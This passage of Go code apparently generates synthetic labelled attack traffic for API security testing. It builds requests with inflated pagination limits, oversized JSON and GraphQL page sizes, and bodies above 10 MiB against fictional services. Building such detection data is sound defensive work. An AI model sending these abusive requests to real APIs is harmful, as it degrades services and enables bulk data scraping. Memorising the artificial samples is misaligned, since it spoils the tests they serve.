				x.rhdr["Content-Type"] = "text/csv"
			}
		}
		g.attackX(x, h6Sens)
	}
}

func (g *h6Gen) limitAttacks(w *h6World) {
	type lq struct{ name, val string }
	qs := []lq{{"limit", "5000"}, {"per_page", "10000"}, {"pageSize", "99999"}, {"page_size", "2000"}, {"top", "50000"}, {"$top", "100000"}, {"maxItems", "5000"},
		{"results_per_page", "3000"}, {"itemsPerPage", "1000000"}, {"max_results", "9999"}, {"maxResults", "25000"}, {"perPage", "1001"}, {"PageSize", "2147483647"},
		{"limit", "999999999"}, {"rowsPerPage", "5000"}, {"recordsPerPage", "8000"}, {"pageLimit", "20000"}, {"page[size]", "10000"}, {"page[limit]", "5000"},
		{"per-page", "4000"}, {"LIMIT", "100000"}, {"numResults", "50000"}, {"maxRows", "1000000"}, {"max_page_size", "9000"}, {"limit", "100000000"}, {"size_per_page", "7000"},
		{"entriesPerPage", "15000"}, {"count_per_page", "3000"}, {"itemLimit", "100000"}, {"limit", "10001"},
		{"pagesize", "5000"}, {"items_per_page", "2500"}, {"max_items", "100000"}, {"perpage", "3000"}, {"page_size", "65535"}, {"top", "1001"},
		{"limit", "4294967295"}, {"pageSize", "50000"}, {"results_per_page", "99999"}, {"per_page", "1000000"}}
	for i, q := range qs {
		var x *h6X
		switch i % 5 {
		case 0:
			u := g.atk(w.atkTel)
			x = g.ok(u, "GET", "/v2/accounts/"+u.acct+"/messages?"+h6Q(q.name, q.val, "date_sent_after", "2020-01-01"), nil, "", 200, `{"messages":[],"page":0,"page_size":1000}`)
		case 1:
			u := g.atk(w.atkHome)
			x = g.ok(u, "GET", "/api/listings?"+h6Q("city", "Austin", q.name, q.val), nil, "", 200, `{"data":[],"pagination":{"page":1,"per_page":100,"total":0}}`)
		case 2:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", "/v1/leaderboards/s10?"+h6Q(q.name, q.val, "offset", "0"), nil, "", 200, `{"season":"s10","entries":[]}`)
		case 3:
			u := g.atk(w.atkTel)
			x = g.ok(u, "GET", "/v2/accounts/"+u.acct+"/calls?"+h6Q("status", "completed", q.name, q.val), nil, "", 400, `{"code":20001,"message":"page size too large"}`)
		default:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", "/v1/inventory?"+h6Q(q.name, q.val), nil, "", 200, `{"items":[]}`)
		}
		g.attackX(x, h6Lim)
	}
	// form
	for _, f := range []string{"limit=50000&status=delivered", "per_page=20000&from=%2B447700900123"} {
		u := g.atk(w.atkTel)
		g.attackX(g.ok(u, "POST", "/v2/accounts/"+u.acct+"/messages/search", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, f, 200, `{"messages":[]}`), h6Lim)
	}
	// JSON at depth
	jsons := []string{
		`{"query":{"city":"Austin"},"page":{"number":1,"size":100000}}`,
		`{"query":{"city":"Leeds"},"pagination":{"page":1,"size":50000}}`,
		`{"filters":{"bedrooms":{"$gte":2}},"from":0,"size":20000}`,
		`{"query":{"city":"Lyon"},"options":{"limit":1000000}}`,
		`{"pageable":{"page":0,"size":99999},"query":{"city":"Osaka"}}`,
		`{"search":{"paging":{"offset":0,"pageSize":25000}}}`,
		`{"query":{"keywords":"loft"},"per_page":5000}`,
		`{"criteria":{"price":{"$lte":900000}},"pager":{"size":9999,"page":1}}`,
	}
	for _, j := range jsons {
		u := g.atk(w.atkHome)
		g.attackX(g.ok(u, "POST", "/api/listings/search", h6JSONH(), j, 200, `{"data":[]}`), h6Lim)
	}
	// GraphQL arguments and variables
	gql := []map[string]any{
		{"query": `{ leaderboard(season: "s10", limit: 100000) { rank rating player { id handle } } }`},
		{"query": `query Lb($n: Int) { leaderboard(season: "s10", limit: $n) { rank player { handle } } }`, "variables": map[string]any{"n": 50000}},
		{"query": `query Chat($ch: ID!, $ps: Int) { messages(channel: $ch, pageSize: $ps) { id text } }`, "variables": map[string]any{"ch": "global-eu", "ps": 20000}},
		{"query": `{ players(perPage: 9999, page: 1) { id handle mmr } }`},
		{"query": `query Inv { inventory(playerId: "plr_58007919", limit: 2147483647) { id name } }`},
		{"query": `query M($lim: Int!) { matches(region: "eu-west", limit: $lim) { id score } }`, "variables": map[string]any{"lim": 1000000}},
		{"query": `{ a: leaderboard(season: "s9", limit: 5000) { rank } b: leaderboard(season: "s10", limit: 5000) { rank } }`},
		{"query": `query Search($q: String, $top: Int) { searchPlayers(q: $q, top: $top) { id } }`, "variables": map[string]any{"q": "a", "top": 30000}},
	}
	for _, q := range gql {
		u := g.atk(w.atkGame)
		g.attackX(g.ok(u, "POST", "/graphql", h6JSONH(), h6JSONOf(q), 200, `{"data":{}}`), h6Lim)
	}
	// page size in the path
	for _, p := range []string{"/v2/numbers/available/per_page/5000", "/v2/numbers/available/per_page/100000?country=US", "/api/listings/per_page/9999"} {
		u := g.atk(w.atkTel)
		if strings.HasPrefix(p, "/api/") {
			u = g.atk(w.atkHome)
		}
		g.attackX(g.ok(u, "GET", p, nil, "", 200, `{"data":[]}`), h6Lim)
	}
	// JSON bodies above 10 MiB (captured in part)
	for i, sz := range []int64{12 << 20, 48 << 20, 11 << 20} {
		u := [][]*h6User{w.atkTel, w.atkHome, w.atkGame}[i]
		uu := g.atk(u)
		path := map[string]string{h6Tel: "/v2/accounts/" + uu.acct + "/templates", h6Home: "/api/mortgage/applications", h6Game: "/v1/reports"}[uu.host]
		var b strings.Builder
		b.WriteString(`{"name":"bulk","items":[`)
		for j := 0; j < 300; j++ {
			if j > 0 {
				b.WriteString(",")
			}
			b.WriteString(`{"k":"` + g.alnum(40, h6AN) + `"}`)
		}
		x := g.ok(uu, "POST", path, h6JSONH(), b.String(), 413, `{"error":"payload too large"}`)
		x.reqSize = sz
		g.attackX(x, h6Lim)
	}
}
